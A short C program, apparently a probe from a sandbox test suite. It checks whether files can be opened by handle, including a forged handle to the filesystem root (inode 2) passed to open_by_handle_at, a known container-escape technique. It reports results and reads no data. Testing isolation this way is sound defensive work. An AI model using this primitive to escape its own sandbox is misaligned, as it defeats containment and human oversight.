// Opens files by a handle instead of a path, which no folder and no mount can hide: its own, and one that it makes up.
#include "attack.h"

enum { BYTES = 128, ROOT_INODE = 2 };

int main(void) {
  struct { struct file_handle handle; unsigned char bytes[BYTES]; } file = {.handle = {.handle_bytes = BYTES}};
  int mount;
  char path[64];
  snprintf(path, sizeof path, "/dev/shm/handle-%d", getpid());
  close(open(path, O_CREAT | O_WRONLY, 0600));
  if (name_to_handle_at(AT_FDCWD, path, &file.handle, &mount, 0) < 0) {
    told("a file of its own", -1);
    file.handle.handle_bytes = 8;
    file.handle.handle_type = 1;
  } else {
    int folder = open("/dev/shm", O_RDONLY | O_DIRECTORY);
    told("a file of its own", open_by_handle_at(folder, &file.handle, O_RDONLY));
  }
  // The root folder of a disk has this number, whichever folder of it is shown.
  struct { struct file_handle handle; unsigned inode, generation; } root = {
    {.handle_bytes = 8, .handle_type = 1}, ROOT_INODE, 0};
  int shown = open("/usr", O_RDONLY | O_DIRECTORY);
  told("the root of the disk", open_by_handle_at(shown, &root.handle, O_RDONLY | O_DIRECTORY));
  unlink(path);
  return 0;
}
